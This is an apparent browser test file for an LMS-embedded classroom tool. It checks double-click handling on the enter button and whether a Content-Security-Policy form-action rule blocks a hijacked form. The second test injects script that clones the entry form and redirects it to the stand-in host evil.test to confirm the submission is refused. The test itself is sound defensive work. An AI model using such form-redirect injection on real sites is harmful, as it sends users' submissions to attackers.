import { beforeAll, expect, test, vi } from "vitest";
import { createLogger } from "../../src/kernel/logger.ts";
import { startDemoWorld } from "../../sandbox/demo-world.ts";
import { collectProblems, openProfile, startBrowser } from "../support/browser/browser.ts";
import { openInFrame } from "../support/browser/open-in-frame.ts";
import { walkIn } from "../support/tool/start-world.ts";
import { forAllTests } from "../support/for-all-tests.ts";

const biology = "1";

const world = await forAllTests(
  startDemoWorld({
    logger: createLogger("silent"),
    dialect: () => ({ afterLogin: "loginOrigins" }),
  }),
);
const browser = await forAllTests(startBrowser());
beforeAll(async () => {
  await walkIn(world, "student1", biology);
});

test("somebody who presses the button twice enters once, and may press it again later", async () => {
  const context = await openProfile(browser, world.lms.url, world.lms.cookieFor("student1"));
  const problems = collectProblems(context, world.toolUrl, []);
  let entries = 0;
  context.on("request", (request) => {
    if (request.method() === "POST" && request.url() === `${world.toolUrl}/enter`) entries += 1;
  });
  const page = await context.newPage();
  await page.route(`${world.lms.url}/frame`, (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><html lang="en"><title>Course</title><iframe title="Tool" width="700" height="600" src="/link/${biology}/launch?container=embed"></iframe></html>`,
    }),
  );
  await page.goto(`${world.lms.url}/frame`);
  const button = page.frameLocator("iframe").getByRole("button", { name: /^(Enter classroom|Join)$/ });
  const [tab] = await Promise.all([context.waitForEvent("page"), button.dblclick()]);
  await tab.waitForURL(`${world.classroom.appUrl}/spaces/**`, { timeout: 30_000 });
  expect(entries).toBe(1);
  // A later click is taken again: until then each is ignored.
  await vi.waitFor(
    async () => {
      await page.bringToFront();
      await button.click();
      expect(entries).toBe(2);
    },
    { timeout: 30_000, interval: 500 },
  );
  expect(problems).toEqual([]);
  await context.close();
});

test("a form that somebody brought into a page leads nowhere where the classroom keeps to its addresses, and the page's own lead into the Space", async () => {
  const { context, frame } = await openInFrame(browser, world, { username: "student1", linkId: biology });
  const sent: string[] = [];
  await context.route("https://evil.test/**", async (route) => {
    sent.push(route.request().url());
    await route.fulfill({ contentType: "text/html", body: "taken" });
  });
  const button = frame.getByRole("button", { name: /^(Enter classroom|Join)$/ });
  await button.waitFor();
  const refused = await frame.evaluate(`new Promise((resolve) => {
    addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
    const form = document.querySelector('form[action="/enter"]').cloneNode(true);
    form.action = "https://evil.test/take";
    form.target = "_self";
    form.removeAttribute("id");
    document.body.append(form);
    form.submit();
    form.remove();
  })`);
  expect(refused).toBe("form-action");
  expect(sent).toEqual([]);
  const [tab] = await Promise.all([context.waitForEvent("page"), button.first().click()]);
  await tab.waitForURL(`${world.classroom.appUrl}/spaces/**`, { timeout: 30_000 });
  await context.close();
});
